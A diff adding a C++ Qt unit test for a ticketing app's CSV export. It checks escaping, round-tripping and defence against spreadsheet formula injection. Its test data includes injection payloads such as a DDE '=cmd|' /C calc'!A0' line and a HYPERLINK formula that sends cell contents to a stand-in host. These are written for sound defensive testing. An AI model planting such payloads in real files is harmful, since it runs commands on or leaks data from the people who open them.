@@ -1,0 +1,204 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+#include "models/tables/Csv.h"
+#include "models/tables/OrderCsv.h"
+#include "models/tables/OrderTableModel.h"
+#include "tests/unit/tables/Orders.h"
+
+#include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QProcess>
+#include <QTemporaryDir>
+#include <QTest>
+
+#include <algorithm>
+
+using namespace Qt::StringLiterals;
+using namespace std::chrono_literals;
+
+namespace okoshko::test {
+
+namespace {
+
+using Column = OrderTableModel::Column;
+using Kind = CsvCell::Kind;
+
+constexpr const char *mark = "\xEF\xBB\xBF";
+
+/// As another program reads it: Python's own reader.
+QList<QStringList> readBack(const QByteArray &csv)
+{
+    const QTemporaryDir folder;
+    QFile file(folder.filePath(u"list.csv"_s));
+    if (!file.open(QIODevice::WriteOnly) || file.write(csv) != csv.size())
+        return {};
+    file.close();
+    QProcess python;
+    python.setProcessChannelMode(QProcess::ForwardedErrorChannel);
+    python.start(u"python3"_s, {QStringLiteral(OKOSHKO_TABLES "/readcsv.py"), file.fileName()});
+    if (!python.waitForFinished() || python.exitCode() != 0)
+        return {};
+    QList<QStringList> rows;
+    const QJsonArray read = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
+    for (const auto &row : read) {
+        QStringList cells;
+        for (const auto &cell : row.toArray())
+            cells << cell.toString();
+        rows << cells;
+    }
+    return rows;
+}
+
+} // namespace
+
+/// A list for a spreadsheet, whatever words the server put into it.
+class CsvTest : public QObject
+{
+    Q_OBJECT
+
+private Q_SLOTS:
+    void looksAsItShould()
+    {
+        const QByteArray csv =
+            toCsv({{{u"Заказ"_s}, {u"Сумма"_s}}, {{u"1"_s, Kind::Number}, {u"-5.00"_s, Kind::Number}}});
+        QCOMPARE(csv, QByteArray(mark) + "Заказ;Сумма\r\n1;-5.00\r\n");
+    }
+
+    void comesBackAsItWas_data()
+    {
+        QTest::addColumn<QString>("text");
+        QTest::newRow("nothing") << QString();
+        QTest::newRow("plain") << u"Чайка"_s;
+        QTest::newRow("separators") << u"a;b,c\td"_s;
+        QTest::newRow("quotes") << u"\"Чайка\" в \"Современнике\""_s;
+        QTest::newRow("a quote alone") << u"\""_s;
+        QTest::newRow("line ends") << u"first\nsecond\r\nthird\rfourth"_s;
+        QTest::newRow("blanks around") << u"  x  "_s;
+        QTest::newRow("markup") << u"<img src=x><b>&amp;"_s;
+        QTest::newRow("far from ASCII") << u"Ёлка 🎄 العربية"_s;
+        QTest::newRow("long") << QString(100000, u'Ж');
+        QTest::newRow("an equals sign within") << u"1+1=2"_s;
+        QTest::newRow("an apostrophe") << u"'til dawn"_s;
+    }
+
+    void comesBackAsItWas()
+    {
+        QFETCH(QString, text);
+        const QList<QStringList> rows = readBack(toCsv({{{text}, {u"end"_s}}}));
+        QCOMPARE(rows, (QList<QStringList>{{text, u"end"_s}}));
+    }
+
+    void noTextIsAFormula_data()
+    {
+        QTest::addColumn<QString>("text");
+        for (const QString &text : {u"=1+1"_s,
+                                    u"+1"_s,
+                                    u"-1"_s,
+                                    u"@SUM(A1)"_s,
+                                    u"\t=1"_s,
+                                    u"\r=1"_s,
+                                    u"\n=1"_s,
+                                    u"\tx"_s,
+                                    u"\rx"_s,
+                                    u"=cmd|' /C calc'!A0"_s,
+                                    u"=HYPERLINK(\"http://x/?\"&A1;\"click\")"_s,
+                                    u" =1+1"_s,
+                                    u"\u00a0=1+1"_s,
+                                    u"\u200b=1+1"_s,
+                                    u"\ufeff=1+1"_s,
+                                    u"\u202e=1+1"_s,
+                                    u"\uff1d1+1"_s,
+                                    u"\uff0b1"_s,
+                                    u"\uff0d1"_s,
+                                    u"\uff20x"_s,
+                                    u"\";=1+1"_s,
+                                    u"x\";=1+1;\""_s,
+                                    u"x\r\n=1+1"_s})
+            QTest::newRow(text.toUtf8().toPercentEncoding(" =+-@;").constData()) << text;
+    }
+
+    void noTextIsAFormula()
+    {
+        QFETCH(QString, text);
+        const QList<QStringList> rows = readBack(toCsv({{{u"first"_s}, {text}, {u"last"_s}}}));
+        // It broke out of no cell, and of its own only an apostrophe may have been put before it.
+        QCOMPARE(rows.size(), 1);
+        QCOMPARE(rows.first().size(), 3);
+        const QString cell = rows.first().at(1);
+        QVERIFY(cell == text || cell == u'\'' + text);
+        const auto seen = std::find_if(cell.cbegin(), cell.cend(), [](QChar c) { return c.isPrint() && !c.isSpace(); });
+        QVERIFY(!u"=+-@\uff1d\uff0b\uff0d\uff20"_s.contains(*seen));
+        QVERIFY(!cell.startsWith(u'\t') && !cell.startsWith(u'\r') && !cell.startsWith(u'\n'));
+    }
+
+    void noControlCharacterGetsIn()
+    {
+        const QByteArray csv = toCsv({{{u"a\0b\x1b[31m\u0085"_s}}});
+        QVERIFY(std::none_of(csv.cbegin(), csv.cend(), [](char c) { return c == '\0' || c == '\x1b'; }));
+        QCOMPARE(readBack(csv).first().first(), u"a\ufffdb\ufffd[31m\ufffd"_s);
+    }
+
+    void theListIsAsTheTableShowsIt()
+    {
+        OrderTableModel model(Format(Format::Language::English));
+        model.setNow(noon());
+        OrderRow hostile = heldRow(1, u"=HYPERLINK(\"http://x\";\"Чайка\")\r\n-1"_s);
+        hostile.order.value = Money::fromMinor(123456789);
+        hostile.venue.name = u"@venue"_s;
+        OrderRow paid = rowOf(2, OrderStatus::Done);
+        paid.order.createdAt = noon() + 1min;
+        paid.order.customer = {.firstName = u"Анна"_s, .email = u"anna@example.org"_s};
+        paid.system = u"api/BASE"_s;
+        OrderRow bare = rowOf(3, OrderStatus::Canceled);
+        bare.order.createdAt.reset();
+        bare.eventStart.reset();
+        for (const OrderRow &row : {hostile, paid, bare})
+            model.put(row);
+        model.setPaymentSystems({{.name = u"api/BASE"_s, .labels = {{u"en"_s, u"Cash & card"_s}}}});
+
+        model.sort(static_cast<int>(Column::Number), Qt::AscendingOrder);
+        const QByteArray csv = toCsv(model);
+        const QString held = model.index(0, static_cast<int>(Column::Status)).data().toString();
+        const QStringList head{u"Order"_s, u"Event"_s,   u"Starts"_s, u"Venue"_s,      u"Tickets"_s,
+                               u"Total"_s, u"Paid by"_s, u"Status"_s, u"Held until"_s, u"Created"_s};
+        const QStringList first{u"497291001"_s,
+                                u"'=HYPERLINK(\"http://x\";\"Чайка\")\r\n-1"_s,
+                                u"2026-05-12T19:00:00+03:00"_s,
+                                u"'@venue"_s,
+                                u"2"_s,
+                                u"1234567.89"_s,
+                                QString(),
+                                held,
+                                u"2026-05-12T14:33:29+03:00"_s,
+                                u"2026-05-12T14:23:29+03:00"_s};
+        const QList<QStringList> rows = readBack(csv);
+        QCOMPARE(rows.size(), 4);
+        QCOMPARE(rows.at(0), head);
+        QCOMPARE(rows.at(1), first);
+        QCOMPARE(rows.at(2).at(6), u"Cash & card"_s);
+        QCOMPARE(rows.at(2).at(8), QString()); // no hold runs
+        QCOMPARE(rows.at(3).at(2), QString());
+        QCOMPARE(rows.at(3).at(9), QString());
+        QVERIFY(!csv.contains("anna"));
+
+        model.sort(static_cast<int>(Column::Created), Qt::DescendingOrder);
+        QCOMPARE(readBack(toCsv(model)).at(1).first(), u"497291002"_s);
+        model.setFilter({.statuses = {OrderStatus::Canceled}});
+        QCOMPARE(readBack(toCsv(model)).size(), 2);
+        QCOMPARE(readBack(toCsv(model)).at(1).first(), u"497291003"_s);
+    }
+
+    void figuresAreTheSameInRussian()
+    {
+        OrderTableModel model(Format(Format::Language::Russian));
+        OrderRow row = heldRow(1);
+        row.order.value = Money::fromMinor(123456789);
+        model.put(row);
+        QCOMPARE(readBack(toCsv(model)).at(1).at(5), u"1234567.89"_s);
+    }
+};
+
+} // namespace okoshko::test
+
+QTEST_GUILESS_MAIN(okoshko::test::CsvTest)
+#include "tst_csv.moc"
